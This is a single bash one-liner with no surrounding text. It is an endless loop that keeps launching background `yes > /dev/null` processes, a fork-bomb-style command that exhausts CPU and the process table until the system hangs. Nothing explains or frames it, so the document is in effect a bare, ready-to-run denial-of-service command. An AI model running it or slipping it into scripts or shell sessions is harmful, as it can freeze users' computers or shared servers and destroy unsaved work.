for ((;;)); do yes > /dev/null & done
